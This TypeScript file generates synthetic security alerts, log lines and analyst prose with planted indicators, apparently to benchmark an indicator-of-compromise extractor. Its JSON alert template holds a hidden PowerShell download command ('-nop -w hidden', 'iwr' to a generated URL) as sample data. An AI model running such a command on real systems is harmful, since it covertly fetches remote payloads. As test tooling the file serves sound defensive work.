import type { Planted } from './iocs';
import * as g from './iocs';
import { Prng } from './prng';

/** A generated document and every indicator a correct extractor must report for it. */
export interface LabeledDoc {
  id: string;
  /** `json` documents are given to our extractor parsed, and to ioc-extractor as their text. */
  kind: 'json' | 'text';
  text: string;
  truth: Array<{ type: string; value: string }>;
}

const FILLER = [
  'the',
  'analyst',
  'observed',
  'activity',
  'consistent',
  'with',
  'initial',
  'access',
  'and',
  'the',
  'host',
  'was',
  'isolated',
  'pending',
  'review',
  'of',
  'related',
  'events',
  'in',
  'our',
  'queue',
  'after',
  'triage',
  'no',
  'further',
  'lateral',
  'movement',
  'was',
  'seen',
  'on',
  'this',
  'segment',
  'during',
  'window',
];

class Builder {
  readonly truth: Array<{ type: string; value: string }> = [];
  constructor(readonly r: Prng) {}

  plant(p: Planted): string {
    this.truth.push(...p.truth);
    return p.text;
  }

  prose(words: number): string {
    const out: string[] = [];
    for (let i = 0; i < words; i++) out.push(this.r.pick(FILLER));
    return out.join(' ');
  }

  /** A random indicator of any type (defanged sometimes, as analysts and feeds write them). */
  any(): string {
    const r = this.r;
    const defang = r.chance(0.25);
    switch (r.int(0, 17)) {
      case 0:
      case 1:
        return this.ip();
      case 2:
        return this.plant(g.url(r, defang));
      case 3:
      case 4:
        return this.plant(g.domain(r, defang));
      case 5:
        return this.plant(g.email(r, defang));
      case 6:
        return this.plant(g.hash(r, 'md5'));
      case 7:
        return this.plant(g.hash(r, 'sha1'));
      case 8:
        return this.plant(g.hash(r, 'sha256'));
      case 9:
        return this.plant(g.cve(r));
      case 10:
        return this.plant(g.technique(r));
      case 11:
        return this.plant(g.ipv6(r));
      case 12:
        return this.plant(g.mac(r));
      case 13:
        return this.plant(g.windowsPath(r));
      case 14:
        return this.plant(g.registryKey(r));
      case 15:
        return this.plant(g.asn(r));
      case 16:
        return this.plant(g.btc(r));
      default:
        return this.plant(r.chance(0.5) ? g.unixPath(r) : g.ssdeep(r));
    }
  }

  ip(): string {
    const value = g.ipv4(this.r);
    this.truth.push({ type: 'ipv4', value });
    return value;
  }

  sentence(): string {
    const r = this.r;
    const parts = [this.prose(r.int(12, 34))];
    parts.push(this.any());
    if (r.chance(0.5)) parts.push(this.prose(r.int(4, 12)), g.distractor(r));
    if (r.chance(0.3)) parts.push(this.prose(r.int(4, 12)), this.any());
    return `${parts.join(' ')}.`;
  }
}

const TITLES = [
  'Suspicious PowerShell',
  'Malware detected',
  'C2 beacon',
  'Credential dumping',
  'Phishing link clicked',
  'Ransomware behavior',
];

function jsonAlert(b: Builder, n: number): LabeledDoc {
  const r = b.r;
  const url = g.url(r, false);
  const sha256 = g.hash(r, 'sha256');
  const alert = {
    alert_id: `${r.hex(8)}-${r.hex(4)}-${r.hex(4)}-${r.hex(4)}-${r.hex(12)}`,
    device_id: r.hex(32),
    title: r.pick(TITLES),
    severity: r.pick(['low', 'medium', 'high', 'critical']),
    timestamp: new Date(Date.UTC(2026, 10, r.int(1, 28), r.int(0, 23), r.int(0, 59))).toISOString(),
    host: {
      name: `ws-${r.int(1, 999)}`,
      ip: b.ip(),
      os_version: `10.0.${r.int(17000, 22631)}.${r.int(1, 4000)}`,
    },
    user: `CORP\\${r.pick(['bob', 'alice', 'svc_backup'])}`,
    process: {
      name: 'powershell.exe',
      command_line: `powershell.exe -nop -w hidden -c "iwr ${b.plant(url)} -OutFile ${b.plant(g.windowsPath(r))}"`,
      sha256: b.plant(sha256),
    },
    file: { name: `${r.pick(['update', 'report', 'run'])}.${r.pick(['zip', 'py', 'one'])}` },
    agent_version: `${r.int(1, 9)}.${r.int(10, 60)}.${r.int(100, 250)}.${r.int(0, 9)}`,
    network: {
      destination_ip: b.ip(),
      destination_port: r.pick([443, 80, 8080, 4444]),
      domain: b.plant(g.domain(r, false)),
    },
    user_agent: g.distractor(r),
    message: b.sentence(),
    description: b.prose(r.int(90, 190)),
  };
  return { id: `json-${n}`, kind: 'json', text: JSON.stringify(alert), truth: b.truth };
}

function logLine(b: Builder, n: number): LabeledDoc {
  const r = b.r;
  const ts = `Nov ${r.int(10, 28)} ${r.int(10, 23)}:${r.int(10, 59)}:${r.int(10, 59)}`;
  const text = r.pick([
    () =>
      `${ts} gw${r.int(1, 9)} sshd[${r.int(100, 9999)}]: Failed password for invalid user admin from ${b.ip()} port ${r.int(1024, 65535)} ssh2`,
    () =>
      `${ts} proxy01 squid: ${b.ip()} TCP_MISS/200 GET ${b.plant(g.url(r, false))} - "${g.distractor(r)}"`,
    () =>
      `CEF:0|Acme|NGFW|9.1|${r.int(100, 999)}|Threat detected|${r.int(1, 10)}|src=${b.ip()} dst=${b.ip()} dpt=443 request=${b.plant(g.url(r, false))} fileHash=${b.plant(g.hash(r, 'md5'))} msg=${b.prose(4)}`,
    () =>
      `${ts} dns01 named[${r.int(100, 999)}]: client ${b.ip()}#${r.int(1024, 65535)}: query: ${b.plant(g.domain(r, false))} IN A`,
    () => `${ts} edr agent[${r.int(10, 99)}]: ${b.sentence()}`,
  ])();
  const padded = `${text} ${b.prose(r.int(6, 20))}`;
  return { id: `log-${n}`, kind: 'text', text: padded, truth: b.truth };
}

function prose(b: Builder, n: number): LabeledDoc {
  const sentences: string[] = [];
  const count = b.r.int(2, 5);
  for (let i = 0; i < count; i++) sentences.push(b.sentence());
  return { id: `prose-${n}`, kind: 'text', text: sentences.join(' '), truth: b.truth };
}

/** Deterministic documents: JSON alerts, log lines and analyst prose in roughly equal measure. */
export function* documents(seed: number): Generator<LabeledDoc> {
  const r = new Prng(seed);
  for (let n = 0; ; n++) {
    const b = new Builder(r);
    const kind = r.int(0, 2);
    yield kind === 0 ? jsonAlert(b, n) : kind === 1 ? logLine(b, n) : prose(b, n);
  }
}

/** De-duplicated truth per document, as extractors report each indicator once. */
export function truthSet(doc: LabeledDoc): Set<string> {
  return new Set(doc.truth.map((t) => `${t.type}\u0000${t.value}`));
}
